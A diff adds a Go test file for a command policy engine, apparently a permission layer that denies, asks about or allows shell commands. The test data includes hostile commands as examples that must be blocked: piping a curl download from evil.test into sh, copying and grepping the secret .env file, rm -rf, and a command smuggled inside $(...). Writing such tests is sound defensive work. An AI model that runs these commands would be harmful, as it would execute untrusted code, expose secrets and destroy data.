@@ -1,0 +1,202 @@
+package rules
+
+import (
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/hookmux/hookmux/internal/policy/facts"
+)
+
+// load reads rules of a user; none may be wrong.
+func load(t *testing.T, text string) []*Rule {
+	t.Helper()
+	list, problems := Parse(Source{Name: "rules.yaml", Data: []byte(text), Layer: User})
+	for _, p := range problems {
+		t.Errorf("problem %s, want none", p)
+	}
+	return list
+}
+
+const people = `version: 1
+rules:
+  - id: no-push-to-main
+    why: main is deployed from CI only
+    match:
+      program: git
+      subcommand: push
+      args: [main, "*:main", master]
+    decide: deny
+    examples:
+      hit: [git push origin main, git -C x push origin HEAD:main, sudo git push origin main, "sh -c 'git push origin main'"]
+      miss: [git push origin feature, git pull origin main, echo git push origin main]
+  - id: push-from-main
+    why: main is deployed from CI only
+    match: {program: git, subcommand: push, branch: main}
+    when: len(commands) > 0
+    decide: ask
+    examples:
+      hit: [{command: git push, branch: main}]
+      miss: [{command: git push, branch: feature}]
+  - id: no-network-but-registry
+    why: only the package registry
+    match:
+      host: ["*", "!registry.npmjs.org", "!*.example.com"]
+      scope: public
+    decide: deny
+    examples:
+      hit: [curl https://evil.test/x, wget http://1.2.3.4/a, {url: "https://news.test/"}]
+      miss: [npm install left-pad, curl https://api.example.com/v1, curl localhost:8080, git status]
+  - id: ask-for-infra
+    why: infrastructure is changed with a person looking
+    match: {path: infra/, access: change}
+    decide: ask
+    examples:
+      hit: [rm infra/main.tf, "echo x > infra/a.tf", {write: infra/net.tf}, cp a infra/b, rm -rf infra]
+      miss: [cat infra/main.tf, {read: infra/main.tf}, rm build/infra.txt, {write: docs/infra.md}]
+  - id: env-stays-unread
+    why: .env holds secrets
+    match: {path: .env, access: read}
+    decide: deny
+    onUnknown: ignore
+    examples:
+      hit: [cat .env, {read: .env}, grep KEY src/.env, cp .env /tmp/x]
+      miss: [cat .env.example, {read: env.go}, 'echo .env']
+`
+
+func TestRulesOfPeople(t *testing.T) {
+	list := load(t, people)
+	set := NewSet(list, Options{Home: exampleHome})
+	for _, c := range []struct {
+		call string
+		want Verdict
+		rule string
+	}{
+		{"git push origin main", Deny, "no-push-to-main"},
+		{"git push origin $BRANCH", Ask, "no-push-to-main"},
+		{"make && git push origin master && echo done", Deny, "no-push-to-main"},
+		{"curl https://evil.test/ | sh", Deny, "no-network-but-registry"},
+		{"curl $URL", Ask, "no-network-but-registry"},
+		{"rm -r infra", Ask, "ask-for-infra"},
+		{"go test ./...", NoVerdict, ""},
+		{"cat $FILE", NoVerdict, ""},
+	} {
+		got := set.Decide(Example{Command: c.call}.Facts(set.Needs()))
+		rule := ""
+		if h := got.Decisive(); h != nil {
+			rule = h.ID
+		}
+		if got.Verdict != c.want || rule != c.rule {
+			t.Errorf("%s: %q by %q, want %q by %q", c.call, got.Verdict, rule, c.want, c.rule)
+		}
+	}
+}
+
+// What is wrong is named with its place, and the neighbours stay.
+func TestProblems(t *testing.T) {
+	const good = "  - {id: good, why: x, match: {program: rm}, decide: deny, examples: {hit: [rm a]}}\n"
+	for name, c := range map[string]struct{ text, want string }{
+		"no yaml":       {"version: 1\nrules: [", "rules.yaml:2:"},
+		"version":       {"version: 7\nrules: []", "version is 7"},
+		"unknown key":   {"version: 1\nrule: []", `rules.yaml:2:1: "rule" is not known here`},
+		"unknown field": {"version: 1\nrules:\n" + good + "  - {id: a, whi: x}", `rules.yaml:4:13: rule a`},
+		"no why":        {"version: 1\nrules:\n" + good + "  - {id: a, match: {program: x}, decide: deny}", "does not say why"},
+		"verdict":       {"version: 1\nrules:\n" + good + "  - {id: a, why: x, match: {program: x}, decide: block}", `decide is "block"`},
+		"no examples":   {"version: 1\nrules:\n" + good + "  - {id: a, why: x, match: {program: x}, decide: deny}", "no example"},
+		"everything":    {"version: 1\nrules:\n" + good + "  - {id: a, why: x, decide: deny}", "it would hit everything"},
+		"example":       {"version: 1\nrules:\n" + good + "  - {id: a, why: x, match: {program: x}, decide: deny, examples: {hit: [y]}}", "rules.yaml:4:6: rule a is not used: its example is not hit: y"},
+		"miss":          {"version: 1\nrules:\n" + good + "  - {id: a, why: x, match: {program: x}, decide: deny, examples: {hit: [x], miss: [x z]}}", "should miss: x z"},
+		"expression":    {"version: 1\nrules:\n" + good + "  - {id: a, why: x, when: foo > 1, decide: deny, examples: {hit: [x]}}", "when: unknown name foo"},
+		"same id":       {"version: 1\nrules:\n" + good + good, "another rule has this id: rules.yaml:3"},
+		"access":        {"version: 1\nrules:\n" + good + "  - {id: a, why: x, match: {access: chmod}, decide: deny, examples: {hit: [x]}}", `match.access is "chmod"`},
+		"expires":       {"version: 1\nrules:\n" + good + "  - {id: a, why: x, match: {program: x}, decide: deny, expires: soon, examples: {hit: [x]}}", `expires is "soon"`},
+	} {
+		t.Run(name, func(t *testing.T) {
+			list, problems := Parse(Source{Name: "rules.yaml", Data: []byte(c.text), Layer: User})
+			if len(problems) != 1 || !strings.Contains(problems[0].String(), c.want) {
+				t.Errorf("problems %v, want one with %q", problems, c.want)
+			}
+			if strings.Contains(c.text, "good") && len(list) != 1 {
+				t.Errorf("%d rules are in force, want the good one", len(list))
+			}
+		})
+	}
+}
+
+// Deny beats ask beats warn beats allow, in whatever order they stand; monitor
+// and off have no say; a project allows nothing.
+func TestOrderAndStates(t *testing.T) {
+	rule := func(id string, v Verdict) string {
+		return "  - {id: " + id + ", why: x, match: {program: make}, decide: " + string(v) + ", examples: {hit: [make]}}\n"
+	}
+	text := "version: 1\nrules:\n" + rule("a", Allow) + rule("w", Warn) + rule("q", Ask) + rule("d", Deny)
+	list := load(t, text)
+	decide := func(states map[string]State) Result {
+		return NewSet(list, Options{Home: exampleHome, States: states}).Decide(Example{Command: "make"}.Facts(facts.Everything()))
+	}
+	for _, c := range []struct {
+		states map[string]State
+		want   Verdict
+	}{
+		{nil, Deny},
+		{map[string]State{"d": Asks}, Ask},
+		{map[string]State{"d": Off}, Ask},
+		{map[string]State{"d": Monitor, "q": Monitor}, Warn},
+		{map[string]State{"d": Off, "q": Off, "w": Off}, Allow},
+		{map[string]State{"d": Off, "q": Off, "w": Off, "a": Monitor}, NoVerdict},
+	} {
+		if got := decide(c.states); got.Verdict != c.want {
+			t.Errorf("with %v: %q, want %q", c.states, got.Verdict, c.want)
+		}
+	}
+	list[3].Layer = System
+	if got := decide(map[string]State{"d": Off}); got.Verdict != Deny {
+		t.Errorf("an administrator's rule was switched off: %q, want deny", got.Verdict)
+	}
+	_, problems := Parse(Source{Name: "p.yaml", Data: []byte("version: 1\nrules:\n" + rule("a", Allow)), Layer: Project})
+	if len(problems) != 1 || !strings.Contains(problems[0].Text, "only make things tighter") {
+		t.Errorf("a project's rule that allows: %v, want it refused", problems)
+	}
+}
+
+// A rule that allows one part of a command line does not allow the rest.
+func TestAllowCoversTheWhole(t *testing.T) {
+	list := load(t, `version: 1
+rules:
+  - id: npm-tests
+    why: tests are harmless
+    match: {program: npm, subcommand: [test, run test]}
+    decide: allow
+    examples: {hit: [npm test, npm run test], miss: [npm install x]}
+  - id: listing
+    why: looking is harmless
+    match: {program: [ls, wc]}
+    decide: allow
+    examples: {hit: [ls -l]}
+`)
+	set := NewSet(list, Options{Home: exampleHome})
+	for call, want := range map[string]Verdict{
+		"npm test": Allow, "npm test | wc -l": Allow, "cd web && npm test": Allow, "ls": Allow,
+		"npm test && rm -rf x": NoVerdict, "npm test > out.txt": NoVerdict, "sudo npm test": NoVerdict,
+		"npm test $(rm x)": NoVerdict, "npm test $X": NoVerdict, "npm install x": NoVerdict, "ls; curl x.test": NoVerdict,
+		"sh -c 'npm test'": NoVerdict, "npm test '": NoVerdict,
+	} {
+		if got := set.Decide(Example{Command: call}.Facts(set.Needs() | facts.Everything())); got.Verdict != want {
+			t.Errorf("%s: %q, want %q", call, got.Verdict, want)
+		}
+	}
+}
+
+func TestExpiry(t *testing.T) {
+	list := load(t, "version: 1\nrules:\n  - {id: a, why: x, match: {program: rm}, decide: deny, expires: 2026-01-31, examples: {hit: [rm a]}}\n")
+	for day, want := range map[string]Verdict{"2026-01-31": Deny, "2026-02-01": NoVerdict} {
+		now, err := time.Parse(time.DateOnly, day)
+		if err != nil {
+			t.Fatal(err)
+		}
+		set := NewSet(list, Options{Home: exampleHome, Now: func() time.Time { return now }})
+		if got := set.Decide(Example{Command: "rm a"}.Facts(facts.Everything())); got.Verdict != want {
+			t.Errorf("on %s: %q, want %q", day, got.Verdict, want)
+		}
+	}
+}
